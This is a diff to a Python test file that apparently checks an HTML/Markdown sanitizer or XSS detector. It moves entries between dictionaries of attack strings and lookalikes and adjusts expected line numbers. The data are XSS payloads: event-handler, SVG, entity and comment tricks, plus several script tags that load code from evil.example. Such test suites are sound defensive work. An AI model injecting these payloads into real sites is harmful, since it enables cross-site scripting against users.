@@ -13,7 +13,6 @@ ATTACKS: dict[str, str] = {
     "a script in odd capitals": "<ScRiPt >alert(1)</sCrIpT>",
     "a script inside the word script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
     "a script behind a bracket": "<<script>alert(1);//<</script>",
-    "a script with a slash in its tag": '<script/x src="//evil.example/x.js"></script>',
     "a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
     "a script with a module": '<script type="module">import "https://evil.example/x.js"</script>',
     "a script without an end": "<script>alert(1)",
@@ -22,7 +21,6 @@ ATTACKS: dict[str, str] = {
     "a handler of an error": "<img src=x onerror=alert(1)>",
     "a handler behind odd quotes": '<img src="x` `<script>alert(1)</script>"` `>',
     "a handler behind quotes that are none": '<img """><script>alert(1)</script>">',
-    "a handler behind a slash": "<img/src/onerror=alert(1)>",
     "a handler of a mouse": '<b onmouseover="alert(1)">x</b>',
     "a handler of an animation": "<p onanimationstart=alert(1) style=animation:x>x</p>",
     "a handler behind a form feed": "<b\x0conclick=alert(1)>x</b>",
@@ -30,7 +28,6 @@ ATTACKS: dict[str, str] = {
     "a handler of details": "<details open ontoggle=alert(1)>x</details>",
     "a handler of a focus": "<input autofocus onfocus=alert(1)>",
     "a handler of an element that nobody knows": "<xss id=x onfocus=alert(1) tabindex=1>",
-    "a drawing with a handler": "<svg/onload=alert(1)>",
     "a drawing with a script": "<svg><script>alert(1)</script></svg>",
     "a drawing that changes a link": "<svg><a><animate attributeName=href "
     "values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
@@ -96,6 +93,7 @@ ATTACKS: dict[str, str] = {
     "character data": "<![CDATA[<script>alert(1)</script>]]>",
     "an instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
     "a declaration": "<!DOCTYPE html><script>alert(1)</script>",
+    "an indented script": "    <script>alert(1)</script>",
     "a script behind a tick": "`<script>alert(1)</script>",
     "a script in a table": "| <script>alert(1)</script> |\n|---|\n| x |",
     "a script in a note": "x[^1]\n\n[^1]: <script>alert(1)</script>",
@@ -115,8 +113,10 @@ LOOKALIKES: dict[str, str] = {
     "a title with quotation marks": '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
     "a comment that is at once at its end": "<!--><script>alert(1)</script>-->",
     "a comment for an old browser": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "a script with a slash in its tag": '<script/x src="//evil.example/x.js"></script>',
+    "a handler behind a slash": "<img/src/onerror=alert(1)>",
+    "a drawing with a handler": "<svg/onload=alert(1)>",
     "entities of a script": "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "an indented script": "    <script>alert(1)</script>",
     "a script in code": "`<script>alert(1)</script>`",
     "a script in a fence": "```html\n<script>alert(1)</script>\n```",
     "a fence with a handler": '``` { .x onclick="alert(1)" }\nx\n```',
@@ -134,20 +134,9 @@ LOOKALIKES: dict[str, str] = {
 }  # fmt: skip
 
 #: "Vorher" stands on line 6, so most attacks stand on line 8.
-_LINES = dict.fromkeys(
-    (
-        "a Markdown link with a tab",
-        "a Markdown link in entities",
-        "a link with an entity for its colon",
-        "a link with a tab in its scheme",
-        "a link with a line end in its scheme",
-        "a link with control characters",
-        "a link in entities",
-        "a link in entities without their end",
-    ),
-    "6: ",  # what stands there differs from what was typed, so it is not found
-) | {
-    "a Markdown picture by reference": "10: ",
+_LINES = {
+    "a Markdown link by reference": "10: ",
+    "a Markdown link by its own name": "10: ",
     "a script in a note": "10: ",
     "a script in a definition": "9: ",
     "a script in an abbreviation": "12: ",
